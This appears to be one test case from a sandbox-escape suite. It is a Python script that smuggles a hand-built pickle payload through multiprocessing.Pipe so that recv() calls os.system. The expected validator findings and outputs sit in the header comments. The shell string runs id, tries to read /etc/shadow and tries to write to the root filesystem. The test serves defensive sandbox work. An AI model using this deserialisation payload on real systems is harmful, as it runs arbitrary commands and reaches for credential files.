# row: B30
# attack: Deserialisation without a loader: `multiprocessing.Pipe()`'s `recv()` unpickles what the
#   other end sent with `send_bytes()`, here a REDUCE to os.system.
# v-on-finding: rule=name.qualified_denied source=ast text='multiprocessing.Pipe'
# v-off-status: ok
# v-off-stdout-contains: system() reached
# v-off-stdout-contains: uid=65534(nobody) gid=65534(nogroup)
# v-off-stdout-contains: shell /etc/shadow: DENIED
# v-off-stdout-contains: shell rootfs write: DENIED
# v-off-stdout-not-contains: ALLOWED
# v-off-host-path-absent: /tmp/sandbox-escape-B30_multiprocessing_pipe_recv
# limits: wall_time_s=10
import multiprocessing

SHELL = (
    "echo 'system() reached'; id; "
    'cat /etc/shadow >/dev/null 2>&1 && echo "shell /etc/shadow: ALLOWED" || echo "shell /etc/shadow: DENIED"; '
    'touch /etc/escaped 2>/dev/null && echo "shell rootfs write: ALLOWED" || echo "shell rootfs write: DENIED"; '
    "touch /tmp/sandbox-escape-B30_multiprocessing_pipe_recv"
)


payload = b"cos\nsystem\n(S'" + SHELL.encode() + b"'\ntR."
try:
    print("multiprocessing.Pipe(): send_bytes() a REDUCE to os.system, recv() it", flush=True)
    sender, receiver = multiprocessing.Pipe()
    sender.send_bytes(payload)
    status = receiver.recv()
except Exception as exc:
    print(f"system() not reached: {type(exc).__name__}: {exc}")
else:
    print(f"recv() returned the shell's exit status {status}")
